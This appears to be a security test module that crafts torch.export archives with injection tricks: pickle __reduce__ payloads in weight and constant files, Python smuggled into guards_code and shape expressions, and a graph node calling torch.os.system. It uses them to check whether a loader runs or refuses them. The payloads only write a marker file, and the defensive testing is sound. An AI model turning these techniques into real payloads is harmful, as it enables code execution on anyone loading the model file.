"""Crafted torch.export archives whose payload writes a marker file if any code from them runs.

Each builder takes a real archive written by torch.export.save and returns a copy with one trick
applied; `payload_runs_in_torch` shows the trick really runs code when torch loads the file itself.
"""

from __future__ import annotations

import io
import json
import pickle
import zipfile
from pathlib import Path


class _OpenForWrite:
    """Unpickling this calls open(marker, 'w'): the marker file appears iff the pickle ran."""

    def __init__(self, marker: Path):
        self.marker = str(marker)

    def __reduce__(self):
        return (open, (self.marker, "w"))


def torch_pickle(marker: Path) -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save(_OpenForWrite(marker), buf)
    return buf.getvalue()


def plain_pickle(marker: Path) -> bytes:
    return pickle.dumps(_OpenForWrite(marker))


def write_tiny_program(path: Path, dynamic: bool = False) -> Path:
    import torch

    class Net(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.conv = torch.nn.Conv2d(3, 4, 3)
            self.register_buffer("offset", torch.ones(4))

        def forward(self, x):
            return self.conv(x).mean((2, 3)) + self.offset

    shapes = {"x": {0: torch.export.Dim("batch"), 2: torch.export.Dim("h", min=8, max=64)}} if dynamic else None
    program = torch.export.export(Net().eval(), (torch.randn(2, 3, 16, 16),), dynamic_shapes=shapes)
    torch.export.save(program, str(path))
    return path


def _rewrite(src: Path, dst: Path, change) -> Path:
    """Copy archive `src` to `dst`, with `change(members: dict[name, bytes], prefix)` applied."""
    with zipfile.ZipFile(src) as z:
        names = z.namelist()
        prefix = names[0].split("/", 1)[0] + "/"
        members = {n[len(prefix):]: z.read(n) for n in names}
    change(members)
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as z:
        for name, blob in members.items():
            z.writestr(prefix + name, blob)
    return dst


def _edit_json(members: dict, name: str, edit) -> None:
    doc = json.loads(members[name])
    edit(doc)
    members[name] = json.dumps(doc).encode()


def pickled_weight(src, dst, marker):
    def change(m):
        def edit(doc):
            entry = next(iter(doc["config"].values()))
            entry["use_pickle"] = True
            m["data/weights/" + entry["path_name"]] = torch_pickle(marker)
        _edit_json(m, "data/weights/model_weights_config.json", edit)
    return _rewrite(src, dst, change)


def legacy_weights(src, dst, marker):
    return _rewrite(src, dst, lambda m: m.__setitem__("data/weights/model.pt", plain_pickle(marker)))


def legacy_constants(src, dst, marker):
    return _rewrite(src, dst, lambda m: m.__setitem__("data/constants/model.pt", plain_pickle(marker)))


def sample_inputs(src, dst, marker):
    return _rewrite(src, dst, lambda m: m.__setitem__("data/sample_inputs/model.pt", torch_pickle(marker)))


def opaque_constant(src, dst, marker):
    def change(m):
        def edit(doc):  # an extra constant: torch unpickles every entry, used by the graph or not
            doc["config"]["evil"] = {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True,
                                     "tensor_meta": None}
        _edit_json(m, "data/constants/model_constants_config.json", edit)
        m["data/constants/opaque_obj_0"] = plain_pickle(marker)
    return _rewrite(src, dst, change)


def guards_code(src, dst, marker):
    code = f"open({str(marker)!r}, 'w') is not None"
    return _rewrite(src, dst, lambda m: _edit_json(m, "models/model.json", lambda d: d.__setitem__("guards_code", [code])))


def shape_expression(src, dst, marker):
    """Needs a dynamic-shape source archive: its first expr_str becomes Python that opens the marker."""
    expr = f"Max(1, __import__('builtins').open({str(marker)!r}, 'w').close() or 1)"

    def edit(doc):
        stack = [doc]
        while stack:
            item = stack.pop()
            if isinstance(item, dict):
                if "expr_str" in item:
                    item["expr_str"] = expr
                    return
                stack.extend(item.values())
            elif isinstance(item, list):
                stack.extend(item)
        raise AssertionError("no expr_str in the source archive")
    return _rewrite(src, dst, lambda m: _edit_json(m, "models/model.json", edit))


def call_target(src, dst, marker):
    """A node calls torch.os.system: nothing runs at load, the command would run at inference."""
    def edit(doc):
        doc["graph_module"]["graph"]["nodes"][0]["target"] = "torch.os.system"
    return _rewrite(src, dst, lambda m: _edit_json(m, "models/model.json", edit))


def aot_library(src, dst, marker):
    return _rewrite(src, dst, lambda m: m.__setitem__("data/aotinductor/model/model.so", b"\x7fELF" + b"\0" * 60))


# trick -> (builder, needs a dynamic-shape source, torch itself runs the payload on load + first call,
#           the studio refuses the file; otherwise it opens it without ever compiling the payload)
TRICKS = {
    "pickled_weight": (pickled_weight, False, True, True),
    "legacy_weights": (legacy_weights, False, True, True),
    "legacy_constants": (legacy_constants, False, True, True),
    "sample_inputs": (sample_inputs, False, True, True),
    "opaque_constant": (opaque_constant, False, True, True),
    "guards_code": (guards_code, False, True, False),
    "shape_expression": (shape_expression, True, True, True),
    "call_target": (call_target, False, False, True),
    "aot_library": (aot_library, False, False, True),
}
